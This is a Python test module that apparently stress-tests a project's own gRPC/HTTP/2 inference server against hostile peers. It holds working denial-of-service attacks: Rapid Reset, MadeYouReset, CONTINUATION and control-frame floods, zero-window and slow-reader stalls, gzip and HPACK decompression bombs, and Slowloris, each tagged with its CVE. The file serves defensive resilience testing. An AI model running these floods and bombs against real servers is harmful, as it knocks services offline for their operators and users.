"""Peers that misuse HTTP/2 itself."""

import asyncio
import functools
from collections.abc import Awaitable, Callable

from hostile.attack import Bar, Scene, attack
from hostile.calls import compressed
from leadline.v1.inference_service_pb2 import GetModelRequest, ListModelsRequest
from support import http2_frames as frames
from support.bare_http2 import BareConnection, framed

_GET = "/leadline.v1.InferenceService/GetModel"
_LIST = "/leadline.v1.InferenceService/ListModels"
_PREDICT = "/leadline.v1.InferenceService/Predict"

# A network has a limit too: 64 connections that each send a batch and pause need 3 Gbit/s.
_BATCH = 100
_BATCH_BYTES = 1 << 16
_PAUSE_SECONDS = 0.01

_HOLD_SECONDS = 2.0
_FRAME_BYTES = 1 << 14
_RETRY_SECONDS = 0.05
_INITIAL_WINDOW_SIZE = 4  # a setting of HTTP/2
_MOST_STREAM = 1 << 30

# Connections of each kind.
_EACH = 4


class _Peer(BareConnection):
    """An attacker's connection."""

    def __init__(self, scene: Scene, *, reads: bool = True, greeting: bytes | None = None) -> None:
        super().__init__(scene.site.port, reads=reads, greeting=greeting)

    async def write(self, data: bytes) -> None:
        """Sends frames as fast as the server reads them."""
        self.send(data)
        await self.flush()

    async def flood(self, make: Callable[[int], bytes]) -> None:
        """Sends the frames of `make` for the streams 1, 3, 5 and so on, in endless batches."""
        batch = b""
        for stream in range(1, _MOST_STREAM, 2):
            batch += make(stream)
            if len(batch) >= _BATCH_BYTES or stream % (2 * _BATCH) == 1:
                await self.write(batch)
                batch = b""
                await asyncio.sleep(_PAUSE_SECONDS)

    async def hold(self) -> None:
        """Sends nothing until the server closes the connection or some time has passed."""
        await self.wait_closed(_HOLD_SECONDS)


async def _declared_lengths(scene: Scene) -> None:
    """Declares 1 GiB and sends nothing of it."""
    async with _Peer(scene) as peer:
        for stream in range(1, 2 * _BATCH, 2):
            await peer.write(
                frames.headers(stream, _PREDICT) + frames.message_begin(stream, 1 << 30)
            )
        await peer.hold()


async def _bombs(scene: Scene) -> None:
    """Sends zeros that gzip compresses to a thousandth."""
    fields, bomb = [(b"grpc-encoding", b"gzip")], _bomb()
    async with _Peer(scene) as peer:
        for stream in range(1, 21, 2):
            await peer.write(frames.headers(stream, _PREDICT, fields))
            for start in range(0, len(bomb), _FRAME_BYTES):
                await peer.write(frames.data(stream, bomb[start : start + _FRAME_BYTES]))
        await peer.hold()


@functools.cache
def _bomb() -> bytes:
    return framed(compressed(bytes(1_000 << 20)), compressed=True)


async def _rapid_reset(scene: Scene) -> None:
    """CVE-2023-44487: starts calls and cancels each at once."""
    request = GetModelRequest(name=scene.site.model).SerializeToString()
    async with _Peer(scene) as peer:
        await peer.flood(
            lambda stream: (
                frames.headers(stream, _GET)
                + frames.message(stream, request)
                + frames.reset(stream)
            )
        )


async def _made_you_reset(scene: Scene) -> None:
    """CVE-2025-8671: causes an error on each stream, so that the server resets it but continues its
    work."""
    request = GetModelRequest(name=scene.site.model).SerializeToString()
    async with _Peer(scene) as peer:
        await peer.flood(
            lambda stream: (
                frames.headers(stream, _GET)
                + frames.message(stream, request)
                + frames.window_update(stream, 0)
            )
        )


async def _slow_readers(scene: Scene) -> None:
    """CVE-2019-9517: requests much data, and reads none of it."""
    request = ListModelsRequest(page_size=1_000).SerializeToString()
    async with _Peer(scene, reads=False) as peer:
        for stream in range(1, 2 * _BATCH, 2):
            await peer.write(frames.headers(stream, _LIST) + frames.message(stream, request))
        await peer.hold()


async def _no_window(scene: Scene) -> None:
    """CVE-2019-9511: requests much data with flow-control windows of zero bytes."""
    request = ListModelsRequest(page_size=1_000).SerializeToString()
    greeting = frames.PREFACE + frames.settings({_INITIAL_WINDOW_SIZE: 0})
    async with _Peer(scene, greeting=greeting) as peer:
        for stream in range(1, 2 * _BATCH, 2):
            await peer.write(frames.headers(stream, _LIST) + frames.message(stream, request))
        await peer.hold()


async def _header_floods(scene: Scene) -> None:
    """Sends 16 KiB of metadata with each call."""
    fields = [(b"x-%d" % number, b"v" * 120) for number in range(128)]
    async with _Peer(scene) as peer:
        await peer.flood(lambda stream: frames.headers(stream, _GET, fields))


async def _continuations(scene: Scene) -> None:
    """CVE-2024-27316 and others: endless headers."""
    block = frames.field_block([(b"x", b"v" * 120)] * 100)
    async with _Peer(scene) as peer:
        await peer.write(frames.headers(1, _GET, ends=False))
        await peer.flood(lambda _: frames.continuation(1, block))


async def _settings(scene: Scene) -> None:
    """CVE-2019-9515: settings that the server must acknowledge."""
    async with _Peer(scene, reads=False) as peer:
        await peer.flood(lambda _: frames.settings({_INITIAL_WINDOW_SIZE: 1}))


async def _pings(scene: Scene) -> None:
    """CVE-2019-9512: pings that the server must answer."""
    async with _Peer(scene, reads=False) as peer:
        await peer.flood(lambda _: frames.ping())


async def _priorities(scene: Scene) -> None:
    """CVE-2019-9513: priorities of streams that do not exist."""
    async with _Peer(scene) as peer:
        await peer.flood(frames.priority)


async def _window_updates(scene: Scene) -> None:
    """Widens the connection's window a byte at a time."""
    async with _Peer(scene) as peer:
        await peer.flood(lambda _: frames.window_update(0, 1))


async def _empty_data(scene: Scene) -> None:
    """CVE-2019-9518: data frames without data."""
    async with _Peer(scene) as peer:
        await peer.write(frames.headers(1, _GET))
        await peer.flood(lambda _: frames.data(1, b""))


async def _half_prefaces(scene: Scene) -> None:
    """Connects, and stalls within the preface."""
    async with _Peer(scene, greeting=frames.PREFACE[:10]) as peer:
        await peer.hold()


async def _slow_writers(scene: Scene) -> None:
    """Slowloris: a byte of a message at a time."""
    async with _Peer(scene) as peer:
        await peer.write(frames.headers(1, _GET) + frames.message_begin(1, 1_000))
        for _ in range(20):
            await peer.write(frames.data(1, b"x"))
            await asyncio.sleep(0.1)


_Kind = Callable[[Scene], Awaitable[None]]

_KINDS: tuple[_Kind, ...] = (
    _declared_lengths,
    _bombs,
    _rapid_reset,
    _made_you_reset,
    _slow_readers,
    _no_window,
    _header_floods,
    _continuations,
    _settings,
    _pings,
    _priorities,
    _window_updates,
    _empty_data,
    _half_prefaces,
    _slow_writers,
)


# The target is 64 MiB, which h2corn just meets with 47 to 62. Over grpcio, calls of others also
# fail: docs/security.md has the figures, and `make test` attacks only h2corn.
@attack(
    source="CVE-2023-44487, CVE-2025-8671 and others, named by each function of peers.py",
    bar=Bar(memory_mib=96),
)
async def hostile_peers(scene: Scene) -> None:
    """Misuses HTTP/2 in 15 ways from 60 connections at once.

    Resets, floods of each kind of frame, bombs, and stalled readers and writers: each costs the
    server more work or memory than the attacker.
    """

    _bomb()  # made once, before
    await scene.begin()
    async with asyncio.TaskGroup() as group:
        for kind in _KINDS:
            group.create_task(scene.repeat(_EACH, functools.partial(_misuse, scene, kind)))


# Over grpcio it is not bounded: docs/transports.md describes what an operator can do.
@attack(source="CVE-2016-6581", bar=Bar(memory_mib=64))
async def hpack_bombs(scene: Scene) -> None:
    """Sends a long metadata field once, and refers to it 16,000 times with one byte each."""
    block = b"\x40\x01x\x7e" + b"v" * 126 + b"\xbe" * 16_000

    async def bomb(scene: Scene) -> None:
        async with _Peer(scene) as peer:
            await peer.flood(
                lambda stream: (
                    frames.headers(stream, _GET, ends=False)
                    + frames.continuation(stream, block, ends=True)
                )
            )

    await scene.begin()
    await scene.repeat(_EACH, functools.partial(_misuse, scene, bomb))


async def _misuse(scene: Scene, kind: _Kind) -> None:
    scene.tally[kind.__name__.strip("_").replace("_", "-")] += 1
    try:
        await kind(scene)
    except OSError:  # the server closed the connection, as it must
        await asyncio.sleep(_RETRY_SECONDS)
